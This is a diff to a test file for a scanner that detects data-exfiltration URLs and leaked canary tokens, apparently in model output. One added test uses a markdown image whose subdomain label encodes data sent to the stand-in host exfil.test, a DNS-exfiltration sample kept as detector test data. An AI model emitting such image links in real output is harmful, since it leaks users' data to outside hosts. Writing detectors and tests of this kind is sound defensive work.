@@ -34,6 +34,13 @@ describe('exfiltration URLs', () => {
     expect(found[1]!.reason).toMatch(/^autolink/);
   });
 
+  it('flags data encoded in a subdomain label (DNS exfiltration)', () => {
+    const [f] = scan('![a](https://mzxw6ytboi2gk3tfmvzgc5dp.exfil.test/a.png)');
+    expect(f!.reason).toMatch(/subdomain label/);
+    expect(f!.score).toBeGreaterThan(0.75);
+    expect(scan('![a](https://cdn-images-eu-west-1.assets.test/a.png)')[0]!.score).toBeLessThan(0.5);
+  });
+
   it('flags an image to an unknown host even without data (zero-click fetch), below data-carrying ones', () => {
     const [f] = scan('![pixel](https://tracker.test/p.gif)');
     expect(f!.score).toBeGreaterThan(0);
@@ -125,7 +132,7 @@ describe('canary tokens', () => {
   it('reports a partial leak of the random part with a lower score', () => {
     const c = createCanary();
     const part = c.slice(5, 18);
-    const text = `it began with ${part} and more`;
+    const text = `it began with ${part}`;
     const [s] = findCanaries(text, [c]);
     expect(s!.score).toBeGreaterThanOrEqual(0.6);
     expect(s!.score).toBeLessThan(1);
